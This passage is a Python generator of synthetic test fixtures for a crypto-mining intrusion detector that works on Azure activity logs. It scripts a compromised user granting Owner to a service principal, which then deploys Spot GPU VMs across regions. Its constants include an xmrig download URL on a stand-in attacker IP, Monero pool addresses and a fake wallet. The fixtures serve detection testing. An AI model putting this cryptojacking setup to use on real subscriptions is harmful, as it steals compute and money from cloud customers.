#!/usr/bin/env python3
"""Generates minetrace's synthetic test fixtures (python3 standard library only).

Writes
  fixtures/scenarios/intrusion/  one crypto-mining incident rendered in every input shape, plus
                                 expected.json (the ground truth the tests assert);
  fixtures/ingest/               small parser edge cases, each with a <name>.expect.json sidecar.

The output is a pure function of this file: every id, time and token comes from a fixed seed
through SHA-256, so two runs give byte-identical files. Never hand-edit the output; change this
script and re-run it:  python3 scripts/gen_fixtures.py
`--check` regenerates into a temporary directory and compares byte for byte with the committed
fixtures instead: it lists every file that drifted and exits 1 (scripts/test runs it).
All GUIDs are fictional; IPs are documentation ranges (RFC 5737) plus one foreign range.
Three scenario shapes (rest-array, sdk-jsonl, la-csv) are written gzipped (mtime 0) to keep the
fixtures under 3.5 MB; fixtures/README.md documents every folder and the sidecar schema.
"""

import base64
import csv
import datetime as dt
import gzip
import hashlib
import io
import json
import re
import shutil
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "fixtures"
SCENARIO_DIR = FIXTURES / "scenarios" / "intrusion"
INGEST_DIR = FIXTURES / "ingest"
SEED = "minetrace/fixtures/intrusion-2026-10"
UTC = dt.timezone.utc

# --------------------------------------------------------------------------------------------
# Deterministic primitives
# --------------------------------------------------------------------------------------------


def _digest(*parts):
    return hashlib.sha256("\x1f".join((SEED,) + parts).encode()).digest()


def gid(*parts):
    """A version-4-shaped GUID derived from the seed and `parts`."""
    d = _digest("guid", *parts).hex()
    return f"{d[0:8]}-{d[8:12]}-4{d[13:16]}-{'89ab'[int(d[16], 16) % 4]}{d[17:20]}-{d[20:32]}"


def hint(lo, hi, *parts):
    """A deterministic integer in [lo, hi]."""
    return lo + int.from_bytes(_digest("int", *parts)[:8], "big") % (hi - lo + 1)


def htext(n, alphabet, *parts):
    out, i = [], 0
    while len(out) < n:
        for b in _digest("text", str(i), *parts):
            out.append(alphabet[b % len(alphabet)])
        i += 1
    return "".join(out[:n])


B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
B64STD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def cjson(obj):
    """Compact JSON as ARM writes it."""
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


# --------------------------------------------------------------------------------------------
# Time helpers (all scenario times have millisecond precision so every shape, including the
# portal CSV with its 3 fraction digits, states the same instant)
# --------------------------------------------------------------------------------------------


def at(text):
    return dt.datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%f").replace(tzinfo=UTC)


def plus_ms(t, n):
    return t + dt.timedelta(milliseconds=n)


def iso7(t):  # 2026-10-12T08:03:11.1230000Z (REST, exports)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"


def iso3(t):  # 2026-10-12T08:03:11.123Z (Log Analytics query API)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def rfc_us(t):  # the normalized form used in expectations
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}Z"


def us_locale(t):  # portal CSV: 10/12/2026, 8:03:11.123 AM
    h12 = t.hour % 12 or 12
    ampm = "AM" if t.hour < 12 else "PM"
    return f"{t.month}/{t.day}/{t.year}, {h12}:{t.minute:02d}:{t.second:02d}.{t.microsecond // 1000:03d} {ampm}"


def epoch(t):
    return int(t.timestamp())


def ticks(t):
    return (t - dt.datetime(1, 1, 1, tzinfo=UTC)) // dt.timedelta(microseconds=1) * 10


# --------------------------------------------------------------------------------------------
# The cast
# --------------------------------------------------------------------------------------------

TENANT = gid("tenant", "fabrikam")
PARTNER = gid("tenant", "northwind-csp")
WORKSPACE = gid("log-analytics-workspace")
S1 = gid("subscription", "s1-production")
S2 = gid("subscription", "s2-devtest")
CUSTOMER_NAME = "Fabrikam Robotics Ltd"
CUSTOMER_DOMAIN = "fabrikamrobotics.onmicrosoft.com"
PARTNER_DOMAIN = "northwindcsp.onmicrosoft.com"
MG = "FABRIKAM-ROOT"

AZURE_PORTAL_APP = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"  # well-known public client ids
AZURE_CLI_APP = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
CONTRIBUTOR = "b24988ac-6180-42a0-ab88-20f7382dd24c"
ROLE_NAMES = {OWNER: "Owner", CONTRIBUTOR: "Contributor"}

IP_ATTACKER_USER = "185.220.101.47"  # the one foreign range
IP_ATTACKER_SP = "198.51.100.23"
IP_DATASCI = "203.0.113.25"
IP_DEVOPS = "192.0.2.44"
MINER_HOST = "198.51.100.23"

RA_P = gid("role-assignment", "owner-to-sp")  # the role assignment the compromised user creates


class Who:
    """One principal: a user (UPN, delegated token) or a service principal (app-only token)."""

    def __init__(self, key, kind, *, oid, appid, appidacr, ip, role_def, ra_scope, ra_id,
                 upn=None, given=None, surname=None, amr=None, grantee=None):
        self.key, self.kind, self.oid, self.appid, self.appidacr = key, kind, oid, appid, appidacr
        self.ip, self.role_def, self.ra_scope, self.ra_id = ip, role_def, ra_scope, ra_id
        self.upn, self.given, self.surname, self.amr = upn, given, surname, amr
        # (principal id, type) the evidence names when the role was granted to a group
        self.grantee = grantee

    @property
    def caller(self):  # the `caller` field: UPN for users, the app id GUID for service principals
        return self.upn if self.kind == "user" else self.appid

    def claims(self, t):
        # One token per ~55-minute window: iat/nbf/exp and uti are stable inside a window, so one
        # stolen token ties many events together.
        window = 3300
        off = hint(0, window - 1, "tok-off", self.key)
        k = (epoch(t) - off) // window
        iat = k * window + off - hint(30, 400, "tok-skew", self.key, str(k))
        exp = iat + window + hint(600, 1500, "tok-life", self.key, str(k))
        uti = htext(22, B64URL, "uti", self.key, str(k))
        aio = "E2Rg" + htext(40, B64STD, "aio", self.key, str(k)) + "="
        iss = f"https://sts.windows.net/{TENANT}/"
        c = {"aud": "https://management.core.windows.net/", "iss": iss,
             "iat": str(iat), "nbf": str(iat), "exp": str(exp)}
        if self.kind == "user":
            c["http://schemas.microsoft.com/claims/authnclassreference"] = "1"
            c["aio"] = aio
            c["http://schemas.microsoft.com/claims/authnmethodsreferences"] = self.amr
            c["appid"] = self.appid
            c["appidacr"] = self.appidacr
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname"] = self.surname
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname"] = self.given
            c["idtyp"] = "user"
            c["ipaddr"] = self.ip
            c["name"] = f"{self.given} {self.surname}"
            c["http://schemas.microsoft.com/identity/claims/objectidentifier"] = self.oid
            c["http://schemas.microsoft.com/identity/claims/scope"] = "user_impersonation"
            c["http://schemas.microsoft.com/identity/claims/tenantid"] = TENANT
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name"] = self.upn
            c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"] = self.upn
            c["uti"] = uti
            c["ver"] = "1.0"
        else:
            c["aio"] = aio
            c["appid"] = self.appid
            c["appidacr"] = self.appidacr
            c["idtyp"] = "app"
            c["ipaddr"] = self.ip
            c["http://schemas.microsoft.com/identity/claims/objectidentifier"] = self.oid
            c["http://schemas.microsoft.com/identity/claims/tenantid"] = TENANT
            c["uti"] = uti
            c["ver"] = "1.0"
        return c

    def evidence(self):
        return {"role": ROLE_NAMES[self.role_def], "roleAssignmentScope": self.ra_scope,
                "roleAssignmentId": self.ra_id.replace("-", ""),
                "roleDefinitionId": self.role_def.replace("-", ""),
                "principalId": (self.grantee[0] if self.grantee else self.oid).replace("-", ""),
                "principalType": self.grantee[1] if self.grantee else
                                 ("User" if self.kind == "user" else "ServicePrincipal")}

    def expected(self):
        return {"name": self.caller, "type": "user" if self.kind == "user" else "service_principal",
                "object_id": self.oid, "app_id": self.appid, "tenant_id": TENANT, "ip": self.ip,
                "mfa": None if self.kind != "user" else ("mfa" in self.amr.split(","))}


U_COMPROMISED = Who("u-jonas", "user", upn=f"jonas.keller@{CUSTOMER_DOMAIN}", given="Jonas",
                    surname="Keller", oid=gid("oid", "jonas"), appid=AZURE_CLI_APP, appidacr="0",
                    amr="pwd", ip=IP_ATTACKER_USER, role_def=OWNER, ra_scope=f"/subscriptions/{S1}",
                    ra_id=gid("role-assignment", "jonas-owner"))
SP_ATTACKER = Who("sp-backup", "sp", oid=gid("oid", "sp-backup-automation"),
                  appid=gid("appid", "fab-backup-automation"), appidacr="1", ip=IP_ATTACKER_SP,
                  role_def=OWNER, ra_scope=f"/subscriptions/{S1}", ra_id=RA_P)
U_DATASCI = Who("u-priya", "user", upn=f"priya.raman@{CUSTOMER_DOMAIN}", given="Priya",
                surname="Raman", oid=gid("oid", "priya"), appid=AZURE_PORTAL_APP, appidacr="2",
                amr="pwd,mfa", ip=IP_DATASCI, role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
                ra_id=gid("role-assignment", "priya-contrib"))
U_DEVOPS = Who("u-marco", "user", upn=f"marco.bianchi@{CUSTOMER_DOMAIN}", given="Marco",
               surname="Bianchi", oid=gid("oid", "marco"), appid=AZURE_CLI_APP, appidacr="0",
               amr="pwd,rsa,mfa", ip=IP_DEVOPS, role_def=CONTRIBUTOR,
               ra_scope=f"/subscriptions/{S2}", ra_id=gid("role-assignment", "marco-contrib"))

WALLET = "4" + htext(1, "AB0123456789", "wallet0") + htext(93, BASE58, "wallet")
POOL_A = "stratum+tcp://gulf.moneroocean.stream:10128"
POOL_B = "stratum+tcp://xmr-eu1.nanopool.org:10300"
MINER_TGZ = f"http://{MINER_HOST}/k/xmrig-6.21.0-linux-static-x64.tar.gz"

# --------------------------------------------------------------------------------------------
# ARM resource ids and friendly names
# --------------------------------------------------------------------------------------------

FRIENDLY = {
    "microsoft.authorization/roleassignments/write": "Create role assignment",
    "microsoft.batch/register/action": "Register Subscription for Microsoft.Batch",
    "microsoft.containerinstance/register/action":
        "Register Subscription for Microsoft.ContainerInstance",
    "microsoft.resources/subscriptions/resourcegroups/write": "Create Resource Group",
    "microsoft.quota/quotas/write": "Create or update quota request",
    "microsoft.capacity/resourceproviders/locations/servicelimits/write":
        "Create service limit request",
    "microsoft.compute/virtualmachines/write": "Create or Update Virtual Machine",
    "microsoft.compute/virtualmachines/delete": "Delete Virtual Machine",
    "microsoft.resources/deployments/write": "Create Deployment",
    "microsoft.network/virtualnetworks/write": "Create or Update Virtual Network",
    "microsoft.network/networkinterfaces/write": "Create or Update Network Interface",
    "microsoft.compute/disks/write": "Create or Update Disk",
    "microsoft.compute/virtualmachines/extensions/write":
        "Create or Update Virtual Machine Extension",
    "microsoft.compute/virtualmachinescalesets/write": "Create or Update Virtual Machine Scale Set",
    "microsoft.compute/virtualmachinescalesets/delete": "Delete Virtual Machine Scale Set",
    "microsoft.batch/batchaccounts/write": "Create or Update Batch Account",
    "microsoft.batch/batchaccounts/pools/write": "Create or Update Pool",
    "microsoft.batch/batchaccounts/pools/delete": "Delete Pool",
    "microsoft.containerinstance/containergroups/write": "Create or Update Container Group",
    "microsoft.containerinstance/containergroups/delete": "Delete Container Group",
    "microsoft.storage/storageaccounts/write": "Create/Update Storage Account",
    "microsoft.web/serverfarms/write": "Create or Update App Service Plan",
    "microsoft.compute/virtualmachines/runcommand/action": "Run Command on Virtual Machine",
    "microsoft.machinelearningservices/workspaces/computes/write": "Creates or updates the compute "
                                                                   "resources",
}

HTTP_CODES = {"OK": 200, "Created": 201, "Accepted": 202, "NoContent": 204, "Conflict": 409}


def rid_info(rid):
    """(subscription lower, resource group as written, namespace, resource type, name)."""
    segs = rid.strip("/").split("/")
    low = [s.lower() for s in segs]
    sub = segs[1].lower() if len(segs) > 1 and low[0] == "subscriptions" else ""
    rg = ""
    if "resourcegroups" in low:
        i = low.index("resourcegroups")
        rg = segs[i + 1] if i + 1 < len(segs) else ""
    if "providers" in low:
        i = len(low) - 1 - low[::-1].index("providers")
        ns = segs[i + 1]
        rest = segs[i + 2:]
        rtype = "/".join([ns] + rest[0::2])
    else:
        ns = "Microsoft.Resources"
        rtype = "Microsoft.Resources/subscriptions/resourceGroups" if rg else \
            "Microsoft.Resources/subscriptions"
    return sub, rg, ns, rtype, segs[-1]


def later_phase_rid(rid):
    """ARM echoes ids in later phases with `resourcegroups` lower-cased (seen in real logs)."""
    return re.sub(r"/resourceGroups/", "/resourcegroups/", rid)


def rg_id(sub, rg):
    return f"/subscriptions/{sub}/resourceGroups/{rg}"


def res_id(sub, rg, ns_type_name):
    return f"/subscriptions/{sub}/resourceGroups/{rg}/providers/{ns_type_name}"


# --------------------------------------------------------------------------------------------
# Canonical events: one ARM operation = several phase records (Start, Accept, Success/Failure)
# --------------------------------------------------------------------------------------------

EVENTS = []  # every phase record of every operation, in creation order
OPS = {}  # key -> operation summary (times, correlation, phases)


def operation(key, who, rid, opname, start, phases, *, corr=None, req=None, resp=None,
              status_msg=None, method="PUT"):
    """Records one ARM operation. `phases` = [(resultType, delay_ms_from_start, statusCode)].

    The request body rides on the Start record; the response body on the Accept record (or on
    the final record of a synchronous call); statusMessage on the Failure record."""
    t0 = at(start) if isinstance(start, str) else start
    corr = corr or gid("correlation", key)
    has_accept = any(p == "Accept" for p, _, _ in phases)
    evs = []
    for i, (phase, delay, code) in enumerate(phases):
        t = plus_ms(t0, delay)
        ev = {
            "key": key, "idx": i, "time": t, "who": who, "rid": rid, "op": opname,
            "phase": phase, "code": code or "", "corr": corr, "opid": gid("operation", key),
            "crid": gid("client-request", key), "edid": gid("event-data", key, str(i)),
            "srid": gid("service-request", key, str(i)) if phase != "Start" else None,
            "method": method, "duration": delay,
            "sub_time": plus_ms(t, hint(2500, 21000, "lag", key, str(i))),
            "req": req if phase == "Start" else None,
            "resp": resp if (phase == "Accept" or (phase == "Success" and not has_accept)) else None,
            "status_msg": status_msg if phase == "Failure" else None,
        }
        EVENTS.append(ev)
        evs.append(ev)
    OPS[key] = {"key": key, "who": who, "rid": rid, "op": opname, "start": evs[0]["time"],
                "end": evs[-1]["time"], "final": evs[-1]["phase"], "corr": corr,
                "final_code": evs[-1]["code"], "status_msg": status_msg, "req": req,
                "events": evs}
    return OPS[key]


# Phase patterns: (resultType, delay in ms from the Start record, statusCode).


def ASYNC_CREATE(accept_ms, done_ms):  # long-running PUT answered 201: the Accept carries the model
    return [("Start", 0, None), ("Accept", accept_ms, "Created"), ("Success", done_ms, "OK")]


def ASYNC_ACCEPTED(accept_ms, done_ms, final="OK"):  # long-running call answered 202
    return [("Start", 0, None), ("Accept", accept_ms, "Accepted"), ("Success", done_ms, final)]


def SYNC_CREATE(done_ms):
    return [("Start", 0, None), ("Success", done_ms, "Created")]


def SYNC_OK(done_ms):
    return [("Start", 0, None), ("Success", done_ms, "OK")]


# Expected-resource annotations, filled while the story is written.
RESOURCES = {}  # rid lower -> annotation
PREPARATION = []  # RP registrations and quota requests


def creates(op, severity, *, deployment=None, parent=None, indicators=(), details=None):
    RESOURCES[op["rid"].lower()] = {"op": op, "severity": severity, "deployment": deployment,
                                    "parent": parent, "indicators": list(indicators),
                                    "details": details or {}, "delete": None}


def deletes(op):
    RESOURCES[op["rid"].lower()]["delete"] = op


# --------------------------------------------------------------------------------------------
# Request / response bodies
# --------------------------------------------------------------------------------------------

IMG_DSVM = {"publisher": "microsoft-dsvm", "offer": "ubuntu-hpc", "sku": "2204", "version": "latest"}
IMG_UBUNTU = {"publisher": "Canonical", "offer": "ubuntu-24_04-lts", "sku": "server",
              "version": "latest"}


def ssh_key(who):
    return "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + htext(43, B64STD, "ssh", who) + " " + who


def vm_request(loc, size, nic, disk=None, *, image, priority=None, admin="azureuser", ssh=True):
    """ARM VM model. ssh=False: password login; adminPassword is write-only and never logged."""
    storage = {"imageReference": image,
               "osDisk": {"createOption": "FromImage", "deleteOption": "Delete",
                          "managedDisk": {"storageAccountType": "Premium_LRS"}}}
    if disk:
        storage["dataDisks"] = [{"lun": 0, "createOption": "Attach", "managedDisk": {"id": disk}}]
    name = nic.split("/")[-1].removesuffix("-nic")
    props = {"hardwareProfile": {"vmSize": size}, "storageProfile": storage,
             "osProfile": {"computerName": name, "adminUsername": admin,
                           "linuxConfiguration": {"disablePasswordAuthentication": not ssh}},
             "networkProfile": {"networkInterfaces": [{"id": nic,
                                                       "properties": {"deleteOption": "Delete"}}]}}
    if ssh:
        props["osProfile"]["linuxConfiguration"]["ssh"] = {"publicKeys": [{
            "path": f"/home/{admin}/.ssh/authorized_keys", "keyData": ssh_key(name)}]}
    if priority == "Spot":
        props.update({"priority": "Spot", "evictionPolicy": "Delete",
                      "billingProfile": {"maxPrice": -1}})
    elif priority:
        props["priority"] = priority
    return {"location": loc, "properties": props}


def vm_response(rid, req, created):
    props = json.loads(json.dumps(req["properties"]))
    props = {"vmId": gid("vmid", rid), **props}
    props["osProfile"].update({"secrets": [], "allowExtensionOperations": True,
                               "requireGuestProvisionSignal": True})
    if "billingProfile" in props:
        props["billingProfile"] = {"maxPrice": -1.0}  # the RP echoes a double
    props["provisioningState"] = "Creating"
    props["timeCreated"] = created.strftime("%Y-%m-%dT%H:%M:%S.") + f"{created.microsecond:06d}0+00:00"
    return {"name": rid.split("/")[-1], "id": rid, "type": "Microsoft.Compute/virtualMachines",
            "location": req["location"], "properties": props}


def ext_request(loc, publisher, etype, version, settings):
    return {"location": loc, "properties": {"publisher": publisher, "type": etype,
                                            "typeHandlerVersion": version,
                                            "autoUpgradeMinorVersion": True, "settings": settings}}


def ext_response(rid, req):
    p = req["properties"]
    return {"name": rid.split("/")[-1], "id": rid,
            "type": "Microsoft.Compute/virtualMachines/extensions", "location": req["location"],
            "properties": {"autoUpgradeMinorVersion": True, "provisioningState": "Creating",
                           "publisher": p["publisher"], "type": p["type"],
                           "typeHandlerVersion": p["typeHandlerVersion"], "settings": p["settings"]}}


def hub_subnet(sub, loc, subnet):
    """Pre-existing shared VNets of the customer's network team (created before the logs)."""
    return res_id(sub, "rg-network", f"Microsoft.Network/virtualNetworks/vnet-hub-{loc}/subnets/{subnet}")


def nic_request(loc, subnet):
    return {"location": loc, "properties": {"ipConfigurations": [{
        "name": "ipconfig1", "properties": {"subnet": {"id": subnet},
                                            "privateIPAllocationMethod": "Dynamic"}}]}}


def deployment_response(rid, corr, t, params, providers):
    return {"id": rid, "name": rid.split("/")[-1], "type": "Microsoft.Resources/deployments",
            "properties": {"templateHash": str(hint(10**18, 10**19 - 1, "tpl", rid)),
                           "parameters": params, "mode": "Incremental",
                           "provisioningState": "Accepted", "timestamp": iso7(t),
                           "duration": "PT0.4127011S", "correlationId": corr,
                           "providers": providers, "dependencies": []}}


# --------------------------------------------------------------------------------------------
# The story
# --------------------------------------------------------------------------------------------


def write_story():
    # ---- S1, legitimate: a long-standing data scientist (MFA) builds one GPU VM via the portal.
    rg_ds = rg_id(S1, "rg-ds-research")
    o = operation("ds-rg", U_DATASCI, rg_ds, "Microsoft.Resources/subscriptions/resourceGroups/write",
                  "2026-09-09T10:14:03.512", SYNC_CREATE(1234),
                  req={"location": "eastus", "tags": {"owner": "priya.raman", "cost-center": "R&D-42"}})
    creates(o, "low", details={"location": "eastus"})

    dep_name = "CreateVm-microsoft-dsvm.ubuntu-hpc2204-20260909102139"
    dep_ds = res_id(S1, "rg-ds-research", f"Microsoft.Resources/deployments/{dep_name}")
    corr_ds = gid("correlation", "ds-deployment")
    t = at("2026-09-09T10:21:47.905")
    dep = operation("ds-dep", U_DATASCI, dep_ds, "Microsoft.Resources/deployments/write", t,
                    [("Start", 0, None), ("Accept", 604, "Created"), ("Success", 252_811, "OK")],
                    corr=corr_ds,
                    resp=deployment_response(dep_ds, corr_ds, plus_ms(t, 590), {
                        "virtualMachineName": {"type": "String", "value": "ds-gpu-01"},
                        "virtualMachineSize": {"type": "String", "value": "Standard_NC6s_v3"},
                        "location": {"type": "String", "value": "eastus"}},
                        [{"namespace": "Microsoft.Network", "resourceTypes": [
                            {"resourceType": "networkInterfaces", "locations": ["eastus"]}]},
                         {"namespace": "Microsoft.Compute", "resourceTypes": [
                             {"resourceType": "virtualMachines", "locations": ["eastus"]}]}]))
    creates(dep, "low", details={"location": "eastus"})
    dep_lower = dep_ds.lower()
    nic = res_id(S1, "rg-ds-research", "Microsoft.Network/networkInterfaces/ds-gpu-01-nic")
    o = operation("ds-nic", U_DATASCI, nic, "Microsoft.Network/networkInterfaces/write",
                  plus_ms(t, 10435), SYNC_CREATE(1188), corr=corr_ds,
                  req=nic_request("eastus", hub_subnet(S1, "eastus", "research")))
    creates(o, "low", deployment=dep_lower, details={"location": "eastus"})
    vm = res_id(S1, "rg-ds-research", "Microsoft.Compute/virtualMachines/ds-gpu-01")
    req = vm_request("eastus", "Standard_NC6s_v3", nic, image=IMG_DSVM, priority="Regular",
                     admin="priya")
    o = operation("ds-vm", U_DATASCI, vm, "Microsoft.Compute/virtualMachines/write",
                  plus_ms(t, 15866), ASYNC_CREATE(1902, 238_140), corr=corr_ds, req=req,
                  resp=vm_response(vm, req, plus_ms(t, 17500)))
    creates(o, "low", deployment=dep_lower, indicators=["gpu-sku"],
            details={"location": "eastus", "vm_size": "Standard_NC6s_v3", "priority": "Regular"})
    # The GPU driver extension: an extension write on a GPU VM that is *not* a miner.
    ext = vm + "/extensions/NvidiaGpuDriverLinux"
    req = ext_request("eastus", "Microsoft.HpcCompute", "NvidiaGpuDriverLinux", "1.9", {})
    o = operation("ds-ext", U_DATASCI, ext, "Microsoft.Compute/virtualMachines/extensions/write",
                  "2026-09-09T10:41:15.226", ASYNC_CREATE(1544, 371_208), req=req,
                  resp=ext_response(ext, req))
    creates(o, "low", parent=vm.lower(),
            details={"location": "eastus", "publisher": "Microsoft.HpcCompute",
                     "extension_type": "NvidiaGpuDriverLinux"})

    # ---- S2, legitimate: ordinary CPU work with the Azure CLI (MFA).
    rg_web = rg_id(S2, "rg-web-dev")
    o = operation("web-rg", U_DEVOPS, rg_web, "Microsoft.Resources/subscriptions/resourceGroups/write",
                  "2026-09-14T13:05:11.004", SYNC_CREATE(987),
                  req={"location": "westeurope", "tags": {"env": "dev"}})
    creates(o, "low", details={"location": "westeurope"})
    st = res_id(S2, "rg-web-dev", "Microsoft.Storage/storageAccounts/stwebdev01")
    o = operation("web-st", U_DEVOPS, st, "Microsoft.Storage/storageAccounts/write",
                  "2026-09-14T13:06:40.250", ASYNC_ACCEPTED(912, 22_430),
                  req={"sku": {"name": "Standard_LRS"}, "kind": "StorageV2",
                       "location": "westeurope",
                       "properties": {"minimumTlsVersion": "TLS1_2", "allowBlobPublicAccess": False,
                                      "supportsHttpsTrafficOnly": True}})
    creates(o, "low", details={"location": "westeurope"})
    asp = res_id(S2, "rg-web-dev", "Microsoft.Web/serverfarms/asp-web-dev")
    o = operation("web-asp", U_DEVOPS, asp, "Microsoft.Web/serverfarms/write",
                  "2026-09-14T13:09:02.731", SYNC_OK(9_120),
                  req={"location": "westeurope", "sku": {"name": "P1v3", "tier": "PremiumV3",
                                                         "capacity": 1},
                       "kind": "linux", "properties": {"reserved": True}})
    creates(o, "low", details={"location": "westeurope"})
    # The build VMs attach NICs that the network team pre-created (not in these logs).
    for n, tv in enumerate(["2026-09-14T13:13:20.890", "2026-09-14T13:14:25.009"], 1):
        nic = res_id(S2, "rg-network", f"Microsoft.Network/networkInterfaces/vm-build-0{n}-nic")
        vm = res_id(S2, "rg-web-dev", f"Microsoft.Compute/virtualMachines/vm-build-0{n}")
        req = vm_request("westeurope", "Standard_D4s_v5", nic, image=IMG_UBUNTU, admin="marco")
        o = operation(f"web-vm{n}", U_DEVOPS, vm, "Microsoft.Compute/virtualMachines/write", tv,
                      ASYNC_CREATE(2_210 + n * 97, 61_300 + n * 4_411), req=req,
                      resp=vm_response(vm, req, plus_ms(at(tv), 2100)))
        creates(o, "low", details={"location": "westeurope", "vm_size": "Standard_D4s_v5",
                                   "priority": None})

    # ---- S1, the incident. 07:52 the compromised user (password only, foreign IP) makes the
    # service principal Owner of the subscription.
    ra = f"/subscriptions/{S1}/providers/Microsoft.Authorization/roleAssignments/{RA_P}"
    ra_op = operation("ra-owner", U_COMPROMISED, ra, "Microsoft.Authorization/roleAssignments/write",
                      "2026-10-12T07:52:10.412", SYNC_CREATE(1_540),
                      req={"Id": RA_P, "Properties": {
                          "PrincipalId": SP_ATTACKER.oid, "PrincipalType": "ServicePrincipal",
                          "RoleDefinitionId": f"/subscriptions/{S1}/providers/"
                                              f"Microsoft.Authorization/roleDefinitions/{OWNER}",
                          "Scope": f"/subscriptions/{S1}", "Condition": None,
                          "ConditionVersion": None}})
    creates(ra_op, "high", indicators=["privileged-role-grant", "no-mfa"],
            details={"principal_id": SP_ATTACKER.oid, "principal_type": "ServicePrincipal",
                     "role_definition_id": OWNER, "role": "Owner", "scope": f"/subscriptions/{S1}"})
    P = SP_ATTACKER

    # 08:03 preparation: resource providers, staging group, quota.
    for key, ns, t0 in [("reg-batch", "Microsoft.Batch", "2026-10-12T08:03:11.123"),
                        ("reg-aci", "Microsoft.ContainerInstance", "2026-10-12T08:03:40.871")]:
        o = operation(key, P, f"/subscriptions/{S1}/providers/{ns}", f"{ns}/register/action", t0,
                      SYNC_OK(2_317 if key == "reg-batch" else 1_905), method="POST")
        PREPARATION.append(o)
    rg_ml = rg_id(S1, "rg-ml-train")
    o = operation("ml-rg", P, rg_ml, "Microsoft.Resources/subscriptions/resourceGroups/write",
                  "2026-10-12T08:05:02.330", SYNC_CREATE(1_102),
                  req={"location": "eastus", "tags": {"project": "ml-training"}})
    creates(o, "medium", details={"location": "eastus"})
    quota = [
        ("q-eus", f"/subscriptions/{S1}/providers/Microsoft.Compute/locations/eastus/providers/"
                  f"Microsoft.Quota/quotas/standardNCADSA100v4Family", "Microsoft.Quota/quotas/write",
         "2026-10-12T08:06:15.602",
         {"properties": {"limit": {"limitObjectType": "LimitValue", "value": 96},
                         "name": {"value": "standardNCADSA100v4Family"},
                         "resourceType": "dedicated"}}),
        ("q-weu", f"/subscriptions/{S1}/providers/Microsoft.Capacity/resourceProviders/"
                  f"Microsoft.Compute/locations/westeurope/serviceLimits/standardNCSv3Family",
         "Microsoft.Capacity/resourceProviders/locations/serviceLimits/write",
         "2026-10-12T08:07:30.019",
         {"properties": {"limit": 64, "name": {"value": "standardNCSv3Family"},
                         "resourceType": "dedicated"}}),
    ]
    for key, rid, opname, t0, body in quota:
        o = operation(key, P, rid, opname, t0,
                      ASYNC_ACCEPTED(811 + hint(0, 300, key), 41_337 + hint(0, 9000, key)), req=body)
        PREPARATION.append(o)

    # 08:12 one failed attempt: the biggest GPU size is not available.
    nic0 = res_id(S1, "rg-ml-train", "Microsoft.Network/networkInterfaces/gpu-train-eus-00-nic")
    vm0 = res_id(S1, "rg-ml-train", "Microsoft.Compute/virtualMachines/gpu-train-eus-00")
    o = operation("vm-fail", P, vm0, "Microsoft.Compute/virtualMachines/write",
                  "2026-10-12T08:12:20.745", [("Start", 0, None), ("Failure", 3_602, "Conflict")],
                  req=vm_request("eastus", "Standard_ND96asr_v4", nic0, image=IMG_DSVM,
                                 priority="Spot", ssh=False),
                  status_msg={"status": "Failed", "error": {
                      "code": "SkuNotAvailable",
                      "message": "The requested VM size for resource 'Following SKUs have failed "
                                 "for Capacity Restrictions: Standard_ND96asr_v4' is currently not "
                                 "available in location 'eastus'. Please try another size or deploy "
                                 "to a different location or different zone. See "
                                 "https://aka.ms/azureskunotavailable for details."}})
    creates(o, "medium", indicators=["gpu-sku", "spot-priority"],
            details={"location": "eastus", "vm_size": "Standard_ND96asr_v4", "priority": "Spot"})

    # 08:20 one deployment creates Spot GPU VMs in three regions.
    regions = [("eus", "eastus", "Standard_NC24ads_A100_v4"),
               ("weu", "westeurope", "Standard_NC6s_v3"),
               ("sea", "southeastasia", "Standard_NC24ads_A100_v4")]
    dep_name = "gpu-train-multiregion-20261012"
    dep_ml = res_id(S1, "rg-ml-train", f"Microsoft.Resources/deployments/{dep_name}")
    corr_ml = gid("correlation", "ml-deployment")
    t = at("2026-10-12T08:20:05.218")
    dep = operation("ml-dep", P, dep_ml, "Microsoft.Resources/deployments/write", t,
                    [("Start", 0, None), ("Accept", 713, "Created"), ("Success", 702_184, "OK")],
                    corr=corr_ml,
                    resp=deployment_response(dep_ml, corr_ml, plus_ms(t, 700), {
                        "vmSize": {"type": "String", "value": "Standard_NC24ads_A100_v4"},
                        "vmSizeWestEurope": {"type": "String", "value": "Standard_NC6s_v3"},
                        "priority": {"type": "String", "value": "Spot"},
                        "regions": {"type": "Array", "value": [r[1] for r in regions]},
                        "instancesPerRegion": {"type": "Int", "value": 1}},
                        [{"namespace": "Microsoft.Network", "resourceTypes": [
                            {"resourceType": "networkInterfaces",
                             "locations": [r[1] for r in regions]}]},
                         {"namespace": "Microsoft.Compute", "resourceTypes": [
                             {"resourceType": "disks", "locations": [r[1] for r in regions]},
                             {"resourceType": "virtualMachines",
                              "locations": [r[1] for r in regions]}]}]))
    creates(dep, "medium", indicators=["multi-region"], details={"location": "eastus"})
    dep_lower = dep_ml.lower()
    vms = {}
    vm_done = {"eus": 331_402, "weu": 402_115, "sea": 566_730}
    for i, (short, loc, size) in enumerate(regions):
        base = plus_ms(t, 4_120 + i * 7_311)
        nic = res_id(S1, "rg-ml-train", f"Microsoft.Network/networkInterfaces/gpu-train-{short}-01-nic")
        o = operation(f"ml-nic-{short}", P, nic, "Microsoft.Network/networkInterfaces/write",
                      plus_ms(base, 3_904), SYNC_CREATE(1_107), corr=corr_ml,
